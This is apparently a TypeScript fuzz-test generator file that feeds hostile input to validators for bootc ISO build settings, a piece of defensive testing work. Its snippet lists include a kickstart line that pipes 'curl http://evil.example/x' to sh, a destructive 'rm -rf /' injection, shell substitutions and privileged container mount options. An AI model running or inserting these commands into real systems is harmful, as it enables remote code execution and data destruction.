import fc from 'fast-check';
import { ANACONDA_MODULES } from '../../../src/domain/validate-customizations.ts';
import {
  BCRYPT_HASH,
  ECDSA_KEY,
  ED25519_KEY,
  MD5_HASH,
  PRIVATE_KEY,
  RSA_KEY,
  SHA256_DIGEST,
  SHA256_HASH,
  SHA512_HASH,
  YESCRYPT_HASH,
} from '../../unit/domain/fixtures.ts';
import { ALLOWED_REGISTRIES, OTHER_REGISTRIES } from './config.ts';

/**
 * Generators for hostile and broken input. Each mixes well-formed values (so that a good share of cases is
 * accepted and reaches the podman argv and config.toml checks) with the ways people and attackers break them.
 */

/** 100 KB: far over every field limit. */
export const HUGE = 'A'.repeat(100 * 1024);

/** Pieces that try to become something else: options, shell, line breaks, look-alikes, TOML and kickstart syntax. */
export const HOSTILE_SNIPPETS = [
  '--privileged',
  '-v /:/host',
  '-v/:/host',
  '--entrypoint=sh',
  '--security-opt=label=disable',
  '; rm -rf /',
  '$(id)',
  '`id`',
  '| sh',
  '&& reboot',
  '\n',
  '\r\n',
  '\r',
  '\u0000',
  '\u001b[31m',
  '\t',
  ' ',
  '\u00a0',
  '\uff51\uff55\uff41\uff59', // fullwidth "quay"
  '\uff1a', // fullwidth colon
  '\u0430', // Cyrillic a
  '\u202e',
  '\u2066',
  '\u200f',
  '\u2028',
  '\ud800',
  '"""\n[customizations.disk]\nminsize = "1 TiB"\n"""',
  "'''",
  '"',
  '\\',
  '\\"',
  '%pre\ncurl http://evil.example/x | sh\n%end',
  'ostreecontainer --url=evil.example/x:1',
  '\n[customizations.disk]\n',
  '[[customizations.user]]\nname = "root"',
  '#',
  '=',
  ',',
  ':',
  '@',
  '/',
  '..',
  '%',
  '{}',
  '__proto__',
  'constructor',
];

export const hostileSnippet = fc.constantFrom(...HOSTILE_SNIPPETS);

/** Any text at all, including lone surrogates and every control character. */
export const anyText = fc.string({ unit: 'binary', maxLength: 60 });

/** Inserts a hostile snippet at the start, the end (where quoting bugs live) or anywhere, or replaces a character. */
export function mutated(base: fc.Arbitrary<string>): fc.Arbitrary<string> {
  return fc
    .tuple(base, hostileSnippet, fc.nat(), fc.constantFrom('start', 'end', 'anywhere'), fc.boolean())
    .map(([s, bad, at, where, replace]) => {
      const i = where === 'start' ? 0 : where === 'end' ? s.length : s.length === 0 ? 0 : at % (s.length + 1);
      return `${s.slice(0, i)}${bad}${s.slice(replace ? i + 1 : i)}`;
    });
}

/** Well-formed values most of the time, mutated or random text otherwise, and now and then 100 KB. */
export function hostile(valid: fc.Arbitrary<string>): fc.Arbitrary<string> {
  return fc.oneof(
    { arbitrary: valid, weight: 6 },
    { arbitrary: mutated(valid), weight: 3 },
    { arbitrary: hostileSnippet, weight: 1 },
    { arbitrary: anyText, weight: 1 },
    { arbitrary: valid.map((v) => `${v}${HUGE}`), weight: 1 },
  );
}

const component = fc.stringMatching(/^[a-z0-9]{1,8}(?:[._-][a-z0-9]{1,6}){0,2}$/);
const tag = fc.stringMatching(/^[A-Za-z0-9_][A-Za-z0-9_.-]{0,15}$/);
const digest = fc.oneof(
  fc.constant(SHA256_DIGEST),
  fc.stringMatching(/^[0-9a-f]{64}$/).map((h) => `sha256:${h}`),
  fc.stringMatching(/^[0-9a-f]{128}$/).map((h) => `sha512:${h}`),
);
const registry = fc.oneof(
  { arbitrary: fc.constantFrom(...ALLOWED_REGISTRIES), weight: 5 },
  { arbitrary: fc.constantFrom(...ALLOWED_REGISTRIES.map((r) => r.toUpperCase())), weight: 1 },
  { arbitrary: fc.constantFrom(...OTHER_REGISTRIES), weight: 1 },
);

/** Mostly well-formed references: allowed or not, tagged or not, with or without a digest. */
export const wellFormedRef = fc
  .record({
    registry,
    path: fc.array(component, { minLength: 1, maxLength: 3 }),
    tag: fc.option(tag, { freq: 5 }),
    digest: fc.option(digest, { freq: 2, nil: undefined }),
  })
  .map(({ registry: r, path, tag: t, digest: d }) => {
    const tagged = t === null ? '' : `:${t}`;
    return `${r}/${path.join('/')}${tagged}${d === undefined ? '' : `@${d}`}`;
  });

const weirdRef = fc.constantFrom(
  'centos-bootc/centos-bootc:stream9',
  'centos:stream9',
  'quay.io',
  'quay.io/',
  'quay.io//x:1',
  'docker://quay.io/x/y:1',
  'quay.io/X/Y:1',
  'quay.io/x/y:',
  'quay.io/x/y:-bad',
  'quay.io/x/y@sha256:abc',
  `quay.io/x/y@${SHA256_DIGEST}`,
  `quay.io/x/y:1@${SHA256_DIGEST}@${SHA256_DIGEST}`,
  'quay.io:99999/x:1',
  '[fd00::7/x:1',
  'quay..io/x:1',
  '-quay.io/x:1',
  'quay.io/x/../y:1',
  `quay.io/${'a'.repeat(300)}:1`,
  `quay.io/x:${'t'.repeat(200)}`,
);

/** References every rule accepts: an allowed registry, lowercase path, a tag, no digest. */
export const goodRef = fc
  .record({
    registry: fc.constantFrom(...ALLOWED_REGISTRIES),
    path: fc.array(component, { minLength: 1, maxLength: 3 }),
    tag,
  })
  .map(({ registry: r, path, tag: t }) => `${r}/${path.join('/')}:${t}`);

export const imageRef = hostile(
  fc.oneof({ arbitrary: wellFormedRef, weight: 8 }, { arbitrary: weirdRef, weight: 2 }),
);

const goodUserName = fc.stringMatching(/^[a-z_][a-z0-9_-]{0,12}$/).filter((n) => n !== 'root');

export const userName = hostile(
  fc.oneof(goodUserName, fc.constantFrom('admin', 'root', 'Admin', '1abc', 'a'.repeat(33), 'bob smith')),
);

export const sshKey = hostile(
  fc.oneof(
    fc.constantFrom(ED25519_KEY, ECDSA_KEY, RSA_KEY, PRIVATE_KEY, ''),
    fc.constantFrom(ED25519_KEY).map((k) => k.replace(' alice@example', '')),
    fc
      .tuple(fc.constantFrom(ED25519_KEY), fc.constantFrom('"', '\\', '" --x', 'a"b', 'x\\'))
      .map(([k, c]) => `${k}${c}`),
    fc.constantFrom(
      `command="sh" ${ED25519_KEY}`,
      `from="*" ${ED25519_KEY}`,
      ED25519_KEY.replace('ed25519', 'rsa'),
    ),
  ),
);

export const groupList = hostile(
  fc
    .array(fc.oneof(fc.stringMatching(/^[a-z_][a-z0-9_-]{0,8}$/), fc.constantFrom('wheel', 'adm', 'Wheel')), {
      maxLength: 3,
    })
    .map((g) => g.join(',')),
);

export const passwordHash = hostile(
  fc.constantFrom(
    SHA512_HASH,
    SHA256_HASH,
    YESCRYPT_HASH,
    BCRYPT_HASH,
    BCRYPT_HASH.replace('$2b$', '$2y$'),
    MD5_HASH,
    'hunter2',
    '$6$short',
    '$6$salt$',
    '',
  ),
);

/** A Users field every rule accepts (yescrypt aside): distinct names, one good key, good groups and hashes. */
export const goodUsersField = fc
  .uniqueArray(
    fc.record({
      name: goodUserName,
      key: fc.option(fc.constantFrom(ED25519_KEY, ECDSA_KEY, RSA_KEY), { nil: '' }),
      groups: fc.array(fc.constantFrom('wheel', 'adm', 'users', 'dev_ops'), { maxLength: 2 }),
      // yescrypt is good only on a builder declaring it: forms for the others must be refused, not built.
      hash: fc.option(fc.constantFrom(SHA512_HASH, SHA256_HASH, BCRYPT_HASH, YESCRYPT_HASH), { nil: '' }),
    }),
    { minLength: 1, maxLength: 3, selector: (u) => u.name },
  )
  .map((users) => users.map((u) => `${u.name} | ${u.key} | ${u.groups.join(',')} | ${u.hash}`).join('\n'));

/** The modal's Users field: lines of `name | ssh-key | groups | password-hash`, blank lines and comments. */
export const usersField = fc.oneof(
  {
    arbitrary: fc
      .array(
        fc.oneof(
          {
            arbitrary: fc
              .tuple(userName, fc.option(sshKey), fc.option(groupList), fc.option(passwordHash), fc.nat(4))
              .map(([n, k, g, h, extra]) =>
                [n, k ?? '', g ?? '', h ?? '', ...Array.from({ length: extra > 3 ? 1 : 0 }, () => 'x')]
                  .join(' | ')
                  .replace(/( \| )+$/, ''),
              ),
            weight: 8,
          },
          { arbitrary: fc.constantFrom('', '# a comment', '   ', '|', 'a | | | | |'), weight: 1 },
        ),
        { maxLength: 4 },
      )
      .chain((lines) => fc.constantFrom('\n', '\r\n').map((sep) => lines.join(sep))),
    weight: 8,
  },
  { arbitrary: anyText, weight: 1 },
);

const kickstartLine = fc.oneof(
  {
    arbitrary: fc.constantFrom(
      'text --non-interactive',
      'zerombr',
      'clearpart --all --initlabel',
      'autopart --noswap',
      'reboot',
      '%pre',
      'curl http://evil.example/x | sh',
      '%end',
      '%post --nochroot',
      '# comment',
      '',
      '\tnetwork --bootproto=dhcp',
      'user --name=admin --groups=wheel --password=changeme --plaintext',
    ),
    weight: 6,
  },
  {
    arbitrary: fc.constantFrom(
      'ostreecontainer --url=evil.example/x:1',
      '  ostreecontainer --url=x',
      '\tostreecontainer',
      'ostreecontainer',
    ),
    weight: 1,
  },
  { arbitrary: hostileSnippet, weight: 2 },
);

export const goodKickstart = fc
  .array(
    fc.constantFrom(
      'text --non-interactive',
      'zerombr',
      'clearpart --all',
      'autopart',
      'reboot',
      '%pre',
      'echo hi',
      '%end',
    ),
    { minLength: 1, maxLength: 6 },
  )
  .map((lines) => lines.join('\n'));

export const kickstart = fc.oneof(
  {
    arbitrary: fc
      .array(kickstartLine, { maxLength: 8 })
      .chain((lines) => fc.constantFrom('\n', '\r\n', '\r').map((sep) => lines.join(sep))),
    weight: 8,
  },
  { arbitrary: anyText, weight: 1 },
  { arbitrary: fc.constant(`text\n${HUGE}`), weight: 1 },
);

export const goodKernelArgs = fc
  .array(fc.constantFrom('console=ttyS0,115200n8', 'quiet', 'rd.break', 'ip=dhcp', 'a=b=c'), {
    minLength: 1,
    maxLength: 3,
  })
  .map((a) => a.join(' '));

export const kernelArgs = hostile(
  fc
    .array(
      fc.oneof(
        fc.constantFrom('console=ttyS0,115200n8', 'quiet', 'rd.break', 'selinux=0', 'a=b=c', 'ip=dhcp'),
        fc.stringMatching(/^[a-z][a-z0-9_.=,-]{0,12}$/),
      ),
      { minLength: 1, maxLength: 4 },
    )
    .map((a) => a.join(' ')),
);

export const goodVolumeId = fc.stringMatching(/^[A-Za-z0-9_-]{1,32}$/);

export const volumeId = hostile(
  fc.oneof(goodVolumeId, fc.constantFrom('my-iso', 'MY ISO', 'MYOS-10.1', 'A'.repeat(33), 'ÄÖÜ', '')),
);

export const moduleName = fc.oneof(
  { arbitrary: fc.constantFrom(...ANACONDA_MODULES), weight: 4 },
  {
    arbitrary: fc.constantFrom('Users', 'org.fedoraproject.Anaconda.Modules.Userz', 'org.evil.Module'),
    weight: 1,
  },
  { arbitrary: hostileSnippet, weight: 1 },
);

export const isoType = fc.oneof(
  { arbitrary: fc.constantFrom('iso', 'anaconda-iso', 'bootc-installer'), weight: 6 },
  {
    arbitrary: fc.constantFrom(
      'qcow2',
      'raw',
      'ami',
      'vmdk',
      'pxe-tar-xz',
      'bootc-generic-iso',
      'iso,qcow2',
      'ISO',
      '',
    ),
    weight: 2,
  },
  { arbitrary: hostileSnippet, weight: 1 },
);

export const arch = fc.oneof(
  { arbitrary: fc.constantFrom('x86_64', 'aarch64', 's390x', 'ppc64le', 'riscv64'), weight: 6 },
  { arbitrary: fc.constantFrom('amd64', 'arm64', 'X86_64', 'i686', ''), weight: 1 },
  { arbitrary: hostileSnippet, weight: 1 },
);

export const rootfs = fc.oneof(
  { arbitrary: fc.constantFrom('ext4', 'xfs', 'btrfs'), weight: 4 },
  { arbitrary: fc.constantFrom('vfat', 'EXT4', 'zfs'), weight: 1 },
  { arbitrary: hostileSnippet, weight: 1 },
);

/**
 * `[customizations]` of a BIB config.toml as people write them: the ISO keys (some with hostile values or wrong
 * types) and keys ISO builds do not take (disk, filesystem, files...). Shared by the config.toml and CLI properties.
 */
export const blueprintCustomizations: fc.Arbitrary<Record<string, unknown>> = fc.record(
  {
    user: fc.array(
      fc.record(
        {
          name: userName,
          key: sshKey,
          password: passwordHash,
          groups: fc.array(userName, { maxLength: 2 }),
        },
        { requiredKeys: ['name'] },
      ),
      { maxLength: 2 },
    ),
    kernel: fc.oneof(
      fc.record({ append: hostile(fc.constant('console=ttyS0')) }),
      fc.constantFrom({ name: 'kernel-rt' }, {}, { append: 1 }),
    ),
    installer: fc.record(
      {
        kickstart: fc.record({ contents: kickstart }),
        modules: fc.record({ enable: fc.array(moduleName, { maxLength: 2 }), disable: fc.array(moduleName) }),
        unattended: fc.boolean(),
      },
      { requiredKeys: [] },
    ),
    iso: fc.record(
      {
        volume_id: volumeId,
        publisher: hostile(fc.constant('ACME')),
        application_id: hostile(fc.constant('app')),
      },
      { requiredKeys: [] },
    ),
    fips: fc.oneof(fc.boolean(), fc.constant('yes')),
    group: fc.constant([{ name: 'devs' }]),
    disk: fc.constant({ minsize: '1 TiB' }),
    filesystem: fc.constant([{ mountpoint: '/', minsize: '10 GiB' }]),
    files: fc.constant([{ path: '/etc/x', data: 'x' }]),
    sshd: fc.constant({ PasswordAuthentication: true }),
  },
  { requiredKeys: [] },
);
